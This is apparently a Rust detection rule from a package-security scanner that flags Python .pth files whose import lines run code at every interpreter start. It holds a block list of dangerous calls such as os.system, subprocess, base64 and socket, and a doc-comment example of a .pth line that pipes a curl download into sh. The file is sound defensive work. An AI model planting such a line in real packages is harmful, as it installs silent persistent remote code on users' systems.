use ossprey_model::{Category, Finding, Severity};

use crate::{Input, Rule, finding};

/// Things a `.pth` line has no business doing at every interpreter start.
const DANGEROUS: &[&str] = &[
    "exec(",
    "eval(",
    "compile(",
    "os.system",
    "subprocess",
    "popen",
    "b64decode",
    "base64",
    "zlib",
    "marshal",
    "codecs.decode",
    "fromhex",
    "urlopen",
    "urllib",
    "requests",
    "socket",
    "http.client",
    "startfile",
    "spawn",
    "pty.spawn",
    "chr(",
    "[::-1]",
    "getattr(",
];

/// ## What it does
/// Reads `.pth` files and finds `import` lines that do more than import a
/// module: `import os; os.system(…)`, `exec(…)`, base64 or zlib payloads,
/// network calls. A bare `import _virtualenv` or `import coverage` line, and the
/// namespace-package lines setuptools writes, are not reported (the latter are
/// low at most).
///
/// ## Why is this bad?
/// Python's `site` module executes every line of a `.pth` file in
/// `site-packages` that starts with `import`, at every interpreter start — in
/// every program, with no import of the package needed. That makes a `.pth`
/// file the quietest persistence a Python package can install.
///
/// ## Example
/// ```text
/// import os; os.system("curl -s http://example.invalid/x | sh")
/// ```
#[derive(Debug)]
pub struct PthCode;

/// `import a`, `import a.b, c` — nothing else on the line.
fn is_bare_import(line: &str) -> bool {
    let Some(rest) = line.strip_prefix("import") else {
        return false;
    };
    let rest = rest.trim().trim_end_matches(';').trim();
    !rest.is_empty()
        && rest.split(',').all(|part| {
            let part = part.trim();
            !part.is_empty()
                && part
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
        })
}

impl Rule for PthCode {
    fn id(&self) -> &'static str {
        "PY-PTH-CODE"
    }
    fn category(&self) -> Category {
        Category::PERSISTENCE
    }
    fn summary(&self) -> &'static str {
        ".pth file whose import lines run code at every interpreter start"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        for file in &input.facts.files {
            if !file.path.to_ascii_lowercase().ends_with(".pth") {
                continue;
            }
            let Some(text) = input.text(&file.path) else {
                continue;
            };
            for (n, line) in text.lines().enumerate() {
                if !(line.starts_with("import ") || line.starts_with("import\t")) {
                    continue;
                }
                if is_bare_import(line) {
                    continue;
                }
                let lower = line.to_ascii_lowercase();
                let hit = DANGEROUS.iter().find(|d| lower.contains(*d));
                // `exec('try: import x; x.setup() …')`: an exec of a literal that
                // itself only imports is what some tools ship; anything else in
                // it still counts.
                let literal_exec_only = hit
                    .is_some_and(|d| matches!(*d, "exec(" | "eval(" | "compile("))
                    && DANGEROUS
                        .iter()
                        .filter(|d| !matches!(**d, "exec(" | "eval(" | "compile("))
                        .all(|d| !lower.contains(*d))
                    && ["exec('", "exec(\"", "exec(r'", "exec(r\""]
                        .iter()
                        .any(|p| lower.contains(p));
                let (severity, message) = match hit {
                    Some(_) if literal_exec_only => (
                        Severity::Medium,
                        "`.pth` line runs literal code with exec at every Python start".to_owned(),
                    ),
                    Some(d) => (
                        Severity::Critical,
                        format!("`.pth` line runs code at every Python start (`{d}`)"),
                    ),
                    None => (
                        Severity::Low,
                        "`.pth` line runs more than an import at every Python start".to_owned(),
                    ),
                };
                out.push(finding(
                    self.id(),
                    severity,
                    self.category(),
                    message,
                    Some(&file.path),
                    u32::try_from(n + 1).ok(),
                    Some(line),
                ));
            }
        }
    }
}
